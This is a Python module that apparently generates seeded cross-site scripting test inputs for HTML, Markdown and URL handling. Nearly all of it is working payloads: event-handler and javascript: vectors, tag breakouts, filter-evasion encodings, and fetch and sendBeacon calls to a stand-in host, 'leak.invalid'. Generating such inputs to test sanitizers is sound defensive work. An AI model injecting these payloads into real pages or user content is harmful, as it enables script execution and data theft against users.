"""Hostile texts: each tries to run a script or to send a request when it is taken for HTML, Markdown or an address.

They are made from a grammar, by a seed: a way in, an action, a wrapping that leaves the place where a text stands, and
a spelling that passes a filter. `{n}` in a piece becomes the number of the text.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Sequence
from itertools import cycle

ELSEWHERE = "leak.invalid"
"""The host that hostile texts send to. No such host exists."""

ACTIONS = (
    "alert({n})",
    "ran({n})",
    "fetch('//leak.invalid/{n}')",
    "new Image().src='//leak.invalid/{n}'",
    "navigator.sendBeacon('//leak.invalid/{n}')",
    "top['al'+'ert']({n})",
    "setTimeout('ran({n})')",
    "import('//leak.invalid/{n}')",
)

WAYS_IN = (
    "<script>{do}</script>",
    "<script src=//leak.invalid/{n}.js></script>",
    "<script type=module>{do}</script>",
    '<img src=x onerror="{do}">',
    "<img src=//leak.invalid/{n}>",
    '<img srcset="//leak.invalid/{n} 2x">',
    '<svg onload="{do}">',
    "<svg><script>{do}</script></svg>",
    '<svg><animate onbegin="{do}" attributeName=x dur=1s>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload={do}>#x">',
    '<body onload="{do}">',
    '<details open ontoggle="{do}"><summary>x</summary></details>',
    '<input autofocus onfocus="{do}">',
    '<select autofocus onfocus="{do}">',
    '<video><source onerror="{do}"></video>',
    '<audio src=x onerror="{do}">',
    "<video poster=//leak.invalid/{n}></video>",
    '<marquee onstart="{do}">x</marquee>',
    '<div style="animation:x 1s" onanimationstart="{do}">x</div>',
    '<p onmouseover="{do}">x</p>',
    '<iframe srcdoc="<script>parent.{do}</script>"></iframe>',
    '<iframe src="javascript:parent.{do}"></iframe>',
    "<iframe src=//leak.invalid/{n}></iframe>",
    '<object data="javascript:{do}"></object>',
    "<embed src=//leak.invalid/{n}>",
    '<meta http-equiv=refresh content="0;url=//leak.invalid/{n}">',
    '<base href="//leak.invalid/{n}/">',
    "<link rel=stylesheet href=//leak.invalid/{n}.css>",
    "<link rel=prefetch href=//leak.invalid/{n}>",
    "<style>@import '//leak.invalid/{n}.css';</style>",
    "<style>*{{background:url(//leak.invalid/{n})}}</style>",
    '<p style="background:url(//leak.invalid/{n})">x</p>',
    '<form action="javascript:{do}"><button autofocus onfocus="{do}">x</button></form>',
    '<a href="javascript:{do}">x</a>',
    '<a href="data:text/html,<script>{do}</script>">x</a>',
    '<a href="//leak.invalid/{n}" ping="//leak.invalid/{n}">x</a>',
    '<math><mtext><table><mglyph><style><img src=x onerror="{do}"></style></mglyph></table></mtext></math>',
    '<noscript><p title="</noscript><img src=x onerror={do}>">',
    '<template><img src=x onerror="{do}"></template>',
    '<xss id=x tabindex=1 onfocus="{do}" autofocus>x</xss>',
    "[x](javascript:{do})",
    "![x](//leak.invalid/{n})",
    "![x](x){{onerror={do}}}",
    "[x]: javascript:{do}\u2028[x]",
    "<javascript:{do}>",
    "$$\\href{{javascript:{do}}}{{x}}$$",
    "$\\includegraphics{{//leak.invalid/{n}}}$",
    ":red[<img src=x onerror={do}>] :material/{do}:",
    "javascript:{do}",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{n}",
    "{{{{constructor.constructor('{do}')()}}}} ${{{do}}} #{{{do}}} <%= {do} %>",
    "';{do};'",
    '";{do};"',
    "`;{do};`",
)

WRAPPINGS = (
    "{}",
    "x{}",
    '">{}',
    "'>{}",
    '" autofocus onfocus="ran(1)" x="{}',
    "</p></mark>{}",
    "</title></textarea>{}",
    "</script>{}",
    "--><!-->{}",
    "]]>{}",
    "</style></svg>{}",
    "<b>{}</b>",
    "<!-- {} -->",
    "&gt;{}",
    "\u202e{}",
)


def _as_it_is(text: str) -> str:
    return text


def _in_mixed_case(text: str) -> str:
    return "".join(c.upper() if number % 2 else c for number, c in enumerate(text))


def _with_slashes(text: str) -> str:
    return text.replace(" ", "/")


def _with_a_tab(text: str) -> str:
    return text.replace("javascript:", "java\tscript:").replace("<img ", "<img\t")


def _as_entities(text: str) -> str:
    return text.replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def _as_numbers(text: str) -> str:
    return text.replace("<", "&#x3c;").replace("(", "&#40;").replace(":", "&colon;")


def _wide(text: str) -> str:
    return text.replace("<", "＜").replace(">", "＞")


def _as_escapes(text: str) -> str:
    return text.replace("<", "\\u003c").replace("'", "\\x27")


def _percent(text: str) -> str:
    return text.replace("<", "%3C").replace(">", "%3E").replace('"', "%22")


def _without_an_end(text: str) -> str:
    return text.removesuffix(">")


def _doubled(text: str) -> str:
    return text.replace("<script", "<scr<script>ipt").replace("<img", "<<img")


SPELLINGS: tuple[Callable[[str], str], ...] = (
    *(
        _as_it_is,
        _as_it_is,
        _as_it_is,
        _as_it_is,
        _as_it_is,
        _as_it_is,
        _in_mixed_case,
        _with_slashes,
        _with_a_tab,
        _as_entities,
        _as_numbers,
    ),
    *(_wide, _as_escapes, _percent, _without_an_end, _doubled),
)


def payloads(count: int, seed: int = 18) -> Sequence[str]:
    """Return so many different hostile texts. Each way in comes about as often as any other."""
    rng = random.Random(seed)
    made: dict[str, None] = {}
    for way_in in cycle(WAYS_IN):
        if len(made) == count:
            break
        number = len(made)
        action = rng.choice(ACTIONS).format(n=number)
        spelt = rng.choice(SPELLINGS)(way_in.format(do=action, n=number))
        made[rng.choice(WRAPPINGS).replace("{}", spelt)] = None
    return list(made)
